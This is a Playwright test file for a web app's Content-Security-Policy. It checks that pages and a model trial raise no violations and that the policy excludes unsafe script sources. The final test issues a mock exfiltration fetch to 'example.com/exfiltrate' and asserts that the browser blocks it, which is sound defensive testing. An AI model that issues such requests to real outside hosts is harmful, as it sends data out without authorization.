/**
 * The Content-Security-Policy of the production build: every page loads and a trial runs with no violation,
 * and a request to a host outside the allowlist is blocked by the browser itself — the backstop of the
 * compliance gateway.
 */
import { expect, test } from '@playwright/test';
import { startTrial } from './helpers';

test.beforeEach(async ({ page }) => {
	await page.addInitScript(() => {
		const seen: { directive: string; blocked: string }[] = [];
		Object.assign(window, { __cspViolations: seen });
		document.addEventListener('securitypolicyviolation', (e) =>
			seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI })
		);
	});
});

async function violations(page: import('@playwright/test').Page) {
	return page.evaluate(
		() => (window as unknown as { __cspViolations: { directive: string; blocked: string }[] }).__cspViolations
	);
}

test('every page and a trial run without a single CSP violation', async ({ page }) => {
	for (const path of [
		'/',
		'/chat/',
		'/goal/',
		'/data/',
		'/models/',
		'/trials/',
		'/trials/new/',
		'/audit/',
		'/settings/'
	]) {
		await page.goto(path);
		await page.waitForLoadState('networkidle');
		expect(await violations(page), path).toEqual([]);
	}
	const meta = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
	expect(meta).toContain("script-src 'self' 'wasm-unsafe-eval'");
	expect(meta).not.toMatch(/\s'unsafe-eval'/);
	expect(meta).not.toMatch(/script-src[^;]*'unsafe-inline'/);
	expect(meta).not.toMatch(/connect-src[^;]*\*/);
	await page.goto('/');
	const id = await startTrial(page, {
		model: 'ridge',
		name: 'csp ridge',
		trainLength: 2_000,
		testLength: 1_000,
		step: 1_000
	});
	expect(id).toBeTruthy();
	await expect(page.getByTestId('trial-status')).toHaveText('completed', { timeout: 120_000 });
	expect(await violations(page)).toEqual([]);
});

test('a request to a host outside the allowlist is blocked by the browser', async ({ page }) => {
	await page.goto('/data/');
	await page.waitForLoadState('networkidle');
	const outcome = await page.evaluate(async () => {
		try {
			await fetch('https://example.com/exfiltrate?data=1');
			return 'reached';
		} catch {
			return 'blocked';
		}
	});
	expect(outcome).toBe('blocked');
	await expect.poll(async () => (await violations(page)).length).toBe(1);
	const [v] = await violations(page);
	expect(v.directive).toBe('connect-src');
	expect(v.blocked).toMatch(/^https:\/\/example\.com/);
});
